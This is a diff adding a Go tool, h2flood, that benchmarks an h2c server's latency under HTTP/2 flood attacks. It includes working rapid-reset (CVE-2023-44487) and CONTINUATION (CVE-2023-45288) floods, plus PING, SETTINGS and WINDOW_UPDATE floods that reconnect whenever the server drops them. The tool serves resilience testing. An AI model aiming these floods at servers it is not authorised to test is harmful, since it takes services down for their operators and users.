@@ -1,0 +1,185 @@
+// Command h2flood measures what an HTTP/2 flood does to the latency of another client:
+// one legitimate h2c connection sends GET -path back to back for -d with nobody else,
+// then again for -d while -attackers connections flood the server (each reconnecting
+// whenever the server ends it), and it prints both latency distributions and their
+// ratio.
+//
+// Attacks (-attack): rapid-reset (HEADERS then RST_STREAM, CVE-2023-44487), ping,
+// settings, window-update (on the connection, increment 1), continuation (a header
+// block that never ends, CVE-2023-45288).
+//
+// Output:
+//
+//	quiet:  N requests, p50 A ms, p99 B ms
+//	attack: N requests, p50 A ms, p99 B ms (attack: C connections, D frames)
+//	p99 ratio: R
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"flag"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"os"
+	"slices"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+type config struct {
+	addr, host, path, attack string
+	attackers                int
+	duration                 time.Duration
+}
+
+func parseFlags(args []string) (config, error) {
+	var c config
+	fs := flag.NewFlagSet("h2flood", flag.ContinueOnError)
+	fs.StringVar(&c.addr, "addr", "127.0.0.1:8080", "h2c address of the server")
+	fs.StringVar(&c.host, "host", "bench.test", ":authority of the requests")
+	fs.StringVar(&c.path, "path", "/64", "path of the legitimate requests")
+	fs.StringVar(&c.attack, "attack", "rapid-reset", "rapid-reset, ping, settings, window-update or continuation")
+	fs.IntVar(&c.attackers, "attackers", 4, "flooding connections at once")
+	fs.DurationVar(&c.duration, "d", 5*time.Second, "duration of each phase")
+	if err := fs.Parse(args); err != nil {
+		return c, err
+	}
+	if _, ok := attacks[c.attack]; !ok {
+		return c, fmt.Errorf("unknown attack %q", c.attack)
+	}
+	if c.attackers < 1 || c.duration <= 0 {
+		return c, fmt.Errorf("-attackers and -d must be positive")
+	}
+	return c, nil
+}
+
+// attack sends one burst of flood frames on fr; i counts bursts on this connection.
+type attack func(fr *http2.Framer, block []byte, i int) error
+
+var attacks = map[string]attack{
+	"rapid-reset": func(fr *http2.Framer, block []byte, i int) error {
+		id := uint32(2*i + 1)
+		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
+			return err
+		}
+		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
+	},
+	"ping":          func(fr *http2.Framer, _ []byte, i int) error { return fr.WritePing(false, [8]byte{byte(i)}) },
+	"settings":      func(fr *http2.Framer, _ []byte, _ int) error { return fr.WriteSettings() },
+	"window-update": func(fr *http2.Framer, _ []byte, _ int) error { return fr.WriteWindowUpdate(0, 1) },
+	"continuation": func(fr *http2.Framer, block []byte, i int) error {
+		if i == 0 {
+			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:1]})
+		}
+		return fr.WriteContinuation(1, false, nil)
+	},
+}
+
+func main() {
+	c, err := parseFlags(os.Args[1:])
+	if err != nil {
+		log.Fatal(err)
+	}
+	quiet, err := legit(context.Background(), c)
+	if err != nil {
+		log.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	var conns, frames atomic.Int64
+	var wg sync.WaitGroup
+	for range c.attackers {
+		wg.Go(func() { flood(ctx, c, &conns, &frames) })
+	}
+	loud, err := legit(ctx, c)
+	cancel()
+	wg.Wait()
+	if err != nil {
+		log.Fatal(err)
+	}
+	q50, q99 := percentiles(quiet)
+	a50, a99 := percentiles(loud)
+	fmt.Printf("quiet:  %d requests, p50 %.3f ms, p99 %.3f ms\n", len(quiet), q50, q99)
+	fmt.Printf("attack: %d requests, p50 %.3f ms, p99 %.3f ms (%s: %d connections, %d frames)\n", len(loud), a50, a99, c.attack, conns.Load(), frames.Load())
+	fmt.Printf("p99 ratio: %.2f\n", a99/q99)
+}
+
+// legit sends GETs back to back on one h2c connection for c.duration and returns their
+// latencies.
+func legit(ctx context.Context, c config) ([]time.Duration, error) {
+	tr := &http2.Transport{
+		AllowHTTP: true,
+		DialTLSContext: func(ctx context.Context, _, _ string, _ *tls.Config) (net.Conn, error) {
+			var d net.Dialer
+			return d.DialContext(ctx, "tcp", c.addr)
+		},
+	}
+	defer tr.CloseIdleConnections()
+	url := "http://" + c.host + c.path
+	var lat []time.Duration
+	end := time.Now().Add(c.duration)
+	for time.Now().Before(end) {
+		req, _ := http.NewRequestWithContext(context.WithoutCancel(ctx), http.MethodGet, url, nil)
+		t0 := time.Now()
+		res, err := tr.RoundTrip(req)
+		if err != nil {
+			return nil, err
+		}
+		_, _ = io.Copy(io.Discard, res.Body)
+		res.Body.Close()
+		if res.StatusCode != http.StatusOK {
+			return nil, fmt.Errorf("status %d", res.StatusCode)
+		}
+		lat = append(lat, time.Since(t0))
+	}
+	return lat, nil
+}
+
+// flood opens connections and floods each until the server ends it, until ctx ends.
+func flood(ctx context.Context, c config, conns, frames *atomic.Int64) {
+	var hb bytes.Buffer
+	enc := hpack.NewEncoder(&hb)
+	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", c.host}, {":path", c.path}} {
+		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+	}
+	block := hb.Bytes()
+	send := attacks[c.attack]
+	for ctx.Err() == nil {
+		nc, err := (&net.Dialer{}).DialContext(ctx, "tcp", c.addr)
+		if err != nil {
+			return
+		}
+		conns.Add(1)
+		stop := context.AfterFunc(ctx, func() { nc.Close() })
+		go func() { _, _ = io.Copy(io.Discard, nc) }() // a reading client: the server's answers flow
+		fr := http2.NewFramer(nc, nil)
+		_, err = nc.Write([]byte(http2.ClientPreface))
+		if err == nil {
+			err = fr.WriteSettings()
+		}
+		for i := 0; err == nil; i++ {
+			err = send(fr, block, i)
+			frames.Add(1)
+		}
+		stop()
+		nc.Close()
+	}
+}
+
+func percentiles(d []time.Duration) (p50, p99 float64) {
+	if len(d) == 0 {
+		return 0, 0
+	}
+	s := slices.Clone(d)
+	slices.Sort(s)
+	ms := func(q float64) float64 { return float64(s[int(q*float64(len(s)-1))]) / float64(time.Millisecond) }
+	return ms(0.50), ms(0.99)
+}
